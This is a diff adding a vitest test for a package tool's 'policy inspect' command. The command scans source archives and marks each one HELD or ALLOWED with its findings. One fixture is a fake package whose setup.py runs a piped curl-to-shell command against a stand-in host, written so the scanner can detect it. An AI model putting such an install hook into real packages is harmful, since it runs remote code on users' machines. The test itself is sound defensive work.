@@ -5,6 +5,7 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type Sandbox, sandbox, startProcess, until } from '../helpers/awspip.ts';
 import { wheel } from '../helpers/distributions.ts';
+import { tarGz } from '../helpers/judgement-archives.ts';
 import { type Facts, type PackageIndex, startPackageIndex } from '../helpers/package-index.ts';
 
 let packageIndex: PackageIndex;
@@ -220,4 +221,25 @@ describe('a wrong command line', () => {
     const { exitCode, stdout, stderr } = await user.run(argv);
     expect([exitCode, stdout, stderr]).toEqual([64, '', expect.stringContaining(`\`${command}\``)]);
   });
+});
+
+test('policy inspect prints one line per file with its outcome and findings', async () => {
+  const attack = tarGz([{ path: 'zzqx-1.0/setup.py', text: 'import os\nos.system("curl http://x | sh")\n' }]);
+  const plain = tarGz([{ path: 'zzqx-1.1/setup.py', text: 'from setuptools import setup\nsetup()\n' }]);
+  const files = { 'zzqx-1.0.tar.gz': attack, 'zzqx-1.1.tar.gz': plain, 'zzqx-1.2.tar.gz': Buffer.from('broken') };
+  for (const [name, content] of Object.entries(files)) await writeFile(user.path(name), content);
+  const paths = Object.keys(files).map((name) => user.path(name));
+  const { stdout, exitCode } = await user.run(['policy', 'inspect', '--ranked', ...paths]);
+  expect(exitCode).toBe(0);
+  const lines = stdout.trim().split('\n');
+  expect(lines.map((line) => JSON.parse(line))).toMatchObject([
+    {
+      file: paths[0],
+      outcome: 'HELD',
+      findings: [{ kind: 'program', path: 'setup.py', line: 2, seen: expect.stringContaining('curl') }],
+    },
+    { file: paths[1], outcome: 'ALLOWED', findings: [] },
+    { file: paths[2], outcome: 'HELD', unreadable: expect.stringContaining('damaged'), findings: [] },
+  ]);
+  expect(await user.run(['policy', 'inspect', user.path('missing.whl')])).toMatchObject({ exitCode: 78 });
 });
